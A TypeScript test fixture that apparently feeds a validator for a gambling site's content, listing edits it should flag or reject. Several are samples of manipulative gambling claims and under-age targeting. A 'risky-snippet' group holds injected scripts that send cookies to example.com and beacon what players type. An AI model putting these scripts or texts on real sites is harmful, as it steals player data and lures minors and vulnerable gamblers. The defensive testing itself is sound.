import {
  blocksIn,
  experiment,
  joined,
  made,
  newPage,
  player,
  rejected,
  snippet,
  text,
  warned,
  words,
} from './build.ts'
import { remove, set } from './edit.ts'
import type { HarmfulEdit } from './harmful-edit.ts'

const slide = '/blocks/0/slots/first/0/props/slides/0'

/** Texts that mislead players, code that harms them, and tests and targeting that hide duties from some of them. */
export const claimsEdits: readonly HarmfulEdit[] = [
  ...warned('misleading-promise', {
    'a win that is guaranteed': newPage(text('<p>Гарантированный выигрыш Kafolatlangan yutuq</p>')),
    'games as income': set('page/home', {
      [`${slide}/headline`]: { uz: 'Oʻynab pul ishlang', ru: 'Стабильный заработок' },
    }),
    'losses to win back': newPage(text('<p>Отыграйтесь сейчас Yutqazganingizni qaytaring</p>')),
  }),
  ...warned('under-age', {
    'rules from 16 years': set('page/rules', {
      '/blocks/1/slots/content/0/props/cards/0/title': { uz: '16 yoshdan', ru: 'С 16 лет' },
    }),
    'a banner with 16+': set('page/home', {
      [`${slide}/terms`]: { uz: 'Shartlar. 16+', ru: 'Условия. 16+' },
    }),
    'consent from 16 years': set('form/registration', {
      '/ui/fields/agreement/richLabel': {
        uz: '16 yoshga toʻlganman, <a href="/rules">qoidalar</a> va <a href="/privacy">maxfiylik siyosati</a>ga roziman',
        ru: 'Мне есть 16 лет, я принимаю <a href="/rules">правила</a> и <a href="/privacy">политику</a>',
      },
    }),
    'a casino for children in search results': made('seo', {
      url: '/',
      title: { uz: 'Bolalar uchun kazino', ru: 'Казино для детей' },
    }),
  }),
  ...warned('lost-age-mark', {
    'a banner without 18+': set('page/home', { [`${slide}/terms`]: { uz: 'Shartlar', ru: 'Условия' } }),
    'system pages without 18+': joined(
      set('messages/ru', { '/system/code': 'Код {{code}}' }),
      set('messages/uz', { '/system/code': 'Kod {{code}}' }),
    ),
  }),
  ...warned('changed-number', {
    'limits that end sooner in the texts only': joined(
      set('messages/ru', { '/profile/limits/rule': 'Меньший лимит сразу. Больший — через 1 час.' }),
      set('messages/uz', { '/profile/limits/rule': 'Kichik limit darhol. Kattasi — 1 soatdan keyin.' }),
    ),
    'another age in a message': set('messages/ru', { '/forms/reasons/age': 'Играть можно только с 21 года' }),
  }),
  ...warned('lost-placeholder', {
    'a message about a code without the contact': set('messages/ru', {
      '/profile/contacts/sendText': 'Отправим код.',
    }),
  }),
  ...warned('hidden-page', {
    'robots kept from the rules': set('settings/seo', { '/disallow': ['/rules'] }),
    'robots of a domain kept from responsible gaming': made('domain-seo', {
      hosts: ['marra.example'],
      robotsTxt: ['User-agent: *', 'Disallow: /responsible-gaming'],
    }),
  }),
  ...rejected('built-in-language', {
    'a language of players hidden': set('settings/site', {
      '/languages': [
        { code: 'uz', tag: 'uz-Latn-UZ', name: 'Oʻzbekcha', public: true },
        { code: 'ru', tag: 'ru-RU', name: 'Русский', public: false },
      ],
    }),
  }),
  ...rejected('missing-translation', {
    'a language without the texts of consent': set('settings/site', {
      '/languages': [
        { code: 'uz', tag: 'uz-Latn-UZ', name: 'Oʻzbekcha', public: true },
        { code: 'ru', tag: 'ru-RU', name: 'Русский', public: true },
        { code: 'kk', tag: 'kk-KZ', name: 'Қазақша', public: true },
      ],
    }),
  }),
  ...warned('risky-snippet', {
    'a script that removes the footer': snippet('<script>document.querySelector("footer").remove()</script>'),
    'styles that hide the footer': snippet('<noscript><style>footer{display:none}</style></noscript>'),
    'a script that leads away': snippet('<script>location.href="https://example.com"</script>'),
    'a script that reads what players type': snippet(
      '<script>document.addEventListener("input",(e)=>navigator.sendBeacon("/x",e.data))</script>',
    ),
    'a script that reads cookies': snippet(
      '<script>new Image().src="https://example.com/?"+document.cookie</script>',
    ),
    'a script without an end': snippet('<script>while(true){}</script>'),
  }),
  ...rejected('duty', {
    'a test that takes the withdrawal away from half of the players': set('page/cashier-withdraw', {
      '/blocks/1': experiment(blocksIn('page/cashier-withdraw')[1], text('<p>Salom привет</p>', 'b')),
    }),
    'a test of the terms of bonuses': set('page/bonus-terms', {
      '/blocks/0': experiment(blocksIn('page/bonus-terms')[0], text('<p>Salom привет</p>', 'b')),
    }),
    'the link to responsible gaming for players only': set('menu/footer-documents', {
      '/items/2/when': { all: [player] },
    }),
    'contacts of the support for verified players only': set('page/support', {
      '/blocks/1/when': { all: [{ fact: 'verification', is: 'verified' }] },
    }),
  }),
  ...warned('duty', {
    'responsible gaming for high levels only': set('page/responsible-gaming', {
      '/blocks/1/when': { all: [{ fact: 'level', atLeast: 3 }] },
    }),
    'a licence with another number': set('layout/default', {
      '/footer/0/props/legal': {
        uz: 'Faoliyat operatori: «Namuna Operator» MChJ. Litsenziya № 111-2222. Faqat 18 yoshga toʻlganlar uchun. Ishonch telefoni: 1000, 24/7.',
        ru: 'Оператор: ООО «Пример Оператор». Лицензия № 111-2222. Только для лиц старше 18 лет. Телефон доверия: 1000, 24/7.',
      },
    }),
  }),
  ...rejected('needed-document', {
    'a break removed together with its form': joined(remove('popup/time-out'), remove('form/time-out')),
  }),
  ...warned('past-period', {
    'a block whose time is over': newPage(text('<p>Salom привет</p>'), {
      ...text('<p>Salom привет</p>', 'old'),
      period: { ends: '2020-01-01T00:00:00Z' },
    }),
  }),
  ...warned('past-countdown', {
    'a countdown that is over': newPage(text('<p>Salom привет</p>'), {
      id: 'countdown',
      type: 'Countdown',
      version: 1,
      props: { title: words, moment: '2020-11-30T21:00+05:00', over: words },
    }),
  }),
  ...warned('insecure-host', {
    'a messenger without encryption': set('settings/auth', {
      '/messengerHosts': ['http://messenger.example'],
    }),
  }),
  ...rejected('missing-name', {
    'an app without a name': set('settings/web', { '/app/shortName': ' ' }),
  }),
]
